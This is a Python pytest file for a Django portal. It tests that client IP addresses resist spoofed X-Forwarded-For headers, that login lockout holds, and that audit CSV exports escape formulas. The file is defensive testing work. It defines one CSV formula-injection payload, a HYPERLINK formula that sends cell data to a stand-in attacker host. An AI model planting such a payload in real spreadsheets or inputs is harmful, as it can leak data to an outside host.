"""The client's address: REMOTE_ADDR unless it is a trusted proxy; never a spoofed header.

A client writes any X-Forwarded-For it likes, so the header may neither spread password
guessing over invented addresses, nor unlock a locked account, nor put its text into the IP
columns (and from there into the audit CSV).
"""

import csv
import io

import pytest
from django.test import RequestFactory
from django.urls import reverse

from portal.client_address import client_ip
from security import lockout
from security.models import LoginFailure
from vaults.models import AuditEvent

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def page_login(client, username, password, ip="10.0.0.1", **headers):
    return client.post(
        reverse("login"), {"username": username, "password": password}, REMOTE_ADDR=ip, **headers
    )


def signed_in(client) -> bool:
    return "_auth_user_id" in client.session


def address(remote_addr, forwarded=None) -> str | None:
    meta = {"REMOTE_ADDR": remote_addr}
    if forwarded is not None:
        meta["HTTP_X_FORWARDED_FOR"] = forwarded
    return client_ip(RequestFactory().get("/", **meta))


@pytest.fixture
def trusted(settings):
    settings.LIFEBOAT = {**settings.LIFEBOAT, "TRUSTED_PROXIES": ["10.0.0.0/8", "fd00::1"]}


# -- which address --------------------------------------------------------------------------------


def test_without_trusted_proxies_the_forwarded_header_is_ignored():
    assert address("192.0.2.10", "198.51.100.7") == "192.0.2.10"
    assert address("192.0.2.10", FORMULA) == "192.0.2.10"


def test_a_trusted_proxy_names_the_client(trusted):
    # The right-most address that no trusted proxy accounts for is the client; what the
    # client itself wrote further left is ignored.
    assert address("10.1.1.1", "198.51.100.7") == "198.51.100.7"
    assert address("10.1.1.1", "6.6.6.6, 198.51.100.7") == "198.51.100.7"
    assert address("10.1.1.1", "6.6.6.6, 198.51.100.7, 10.2.2.2") == "198.51.100.7"
    assert address("fd00::1", "2001:db8::5") == "2001:db8::5"
    # Behind trusted proxies only (e.g. a health check from a proxy host): the left-most one.
    assert address("10.1.1.1", "10.3.3.3, 10.2.2.2") == "10.3.3.3"
    assert address("10.1.1.1") == "10.1.1.1"


def test_an_untrusted_peer_cannot_name_another_client(trusted):
    assert address("192.0.2.10", "10.1.1.1") == "192.0.2.10"


def test_non_addresses_never_become_addresses(trusted):
    assert address("not-an-ip") is None
    assert address("10.1.1.1", FORMULA) is None
    assert address("10.1.1.1", "198.51.100.7:5555") is None
    assert address("::ffff:192.0.2.10") == "192.0.2.10"
    assert address("fe80::1%eth0") == "fe80::1"


def test_a_bad_trusted_proxy_setting_is_refused(settings):
    from django.core.exceptions import ImproperlyConfigured

    settings.LIFEBOAT = {**settings.LIFEBOAT, "TRUSTED_PROXIES": ["10.0.0.0/33"]}
    with pytest.raises(ImproperlyConfigured, match="10.0.0.0/33"):
        address("10.1.1.1")


# -- lockout ---------------------------------------------------------------------------------------


def test_a_spoofed_forwarded_header_does_not_spread_the_guessing(client, owner):
    for n in range(5):
        page_login(client, "owner", "wrong", HTTP_X_FORWARDED_FOR=f"203.0.113.{n}")
    r = page_login(client, "owner", "pw-secret-1", HTTP_X_FORWARDED_FOR="203.0.113.99")
    assert "Too many failed sign-ins" in r.content.decode()
    assert not signed_in(client)
    assert set(LoginFailure.objects.values_list("ip", flat=True)) == {"10.0.0.1"}


def test_a_locked_account_stays_locked_behind_a_new_forwarded_header(client, owner):
    for _ in range(5):
        page_login(client, "owner", "wrong")
    page_login(client, "owner", "pw-secret-1", HTTP_X_FORWARDED_FOR="198.51.100.1")
    assert not signed_in(client)


def test_guessing_many_usernames_from_one_address_locks_the_address(client, owner, settings):
    limit = lockout.address_limit()
    for n in range(limit):
        page_login(client, f"guess-{n}", "wrong")
    r = page_login(client, "owner", "pw-secret-1")
    assert "Too many failed sign-ins from this address" in r.content.decode()
    assert not signed_in(client)
    event = AuditEvent.objects.get(action="login.lockout")
    assert event.after["ip"] == "10.0.0.1" and "username" not in event.after
    # Attempts while locked are not counted, and other addresses are not affected.
    assert LoginFailure.objects.count() == limit
    assert page_login(client, "owner", "pw-secret-1", ip="10.0.0.2").status_code == 302


def test_the_api_token_endpoint_meets_the_address_lock(api, owner):
    for n in range(lockout.address_limit()):
        api().post(
            reverse("api-token-obtain"),
            {"username": f"guess-{n}", "password": "wrong"},
            REMOTE_ADDR="10.0.0.1",
        )
    r = api().post(
        reverse("api-token-obtain"),
        {"username": "owner", "password": "pw-secret-1"},
        REMOTE_ADDR="10.0.0.1",
    )
    assert r.status_code == 429 and "from this address" in r.data["detail"]


def test_a_few_failures_over_several_usernames_do_not_lock(client, owner):
    for n in range(lockout.address_limit() - 1):
        page_login(client, f"guess-{n}", "wrong")
    assert page_login(client, "owner", "pw-secret-1").status_code == 302


def test_with_a_trusted_proxy_the_forwarded_client_is_locked_alone(client, owner, trusted):
    for _ in range(5):
        page_login(client, "owner", "wrong", ip="10.9.9.9", HTTP_X_FORWARDED_FOR="198.51.100.1")
    assert set(LoginFailure.objects.values_list("ip", flat=True)) == {"198.51.100.1"}
    r = page_login(client, "owner", "pw-secret-1", ip="10.9.9.9", HTTP_X_FORWARDED_FOR="1.2.3.4")
    assert r.status_code == 302  # another client behind the same proxy


# -- audit ------------------------------------------------------------------------------------------


def test_a_spoofed_forwarded_header_does_not_land_in_the_audit_log(api, admin_user, host):
    r = api(admin_user).post(
        reverse("api-vault-list"),
        {"name": "lab"},
        REMOTE_ADDR="192.0.2.10",
        HTTP_X_FORWARDED_FOR="198.51.100.7",
    )
    assert r.status_code == 201
    assert AuditEvent.objects.get(action="vault.create").source_ip == "192.0.2.10"


def test_a_non_address_never_reaches_an_ip_column(api, admin_user, owner, trusted):
    r = api(admin_user).post(
        reverse("api-vault-list"),
        {"name": "lab"},
        REMOTE_ADDR="10.1.1.1",
        HTTP_X_FORWARDED_FOR=FORMULA,
    )
    assert r.status_code == 201
    assert AuditEvent.objects.get(action="vault.create").source_ip is None


def test_a_formula_in_a_failed_login_exports_escaped(client, api, admin_user):
    for _ in range(5):
        page_login(client, FORMULA, "wrong", HTTP_X_FORWARDED_FOR=FORMULA)
    assert AuditEvent.objects.filter(action="login.lockout").exists()
    response = api(admin_user).get(reverse("api-audit-export"), {"action": "login."})
    text = b"".join(response.streaming_content).decode()
    assert "hyperlink" in text.lower()
    rows = list(csv.reader(io.StringIO(text)))
    # The header, each failed sign-in (login.failure) and the lockout they caused.
    assert len(rows) == 7
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
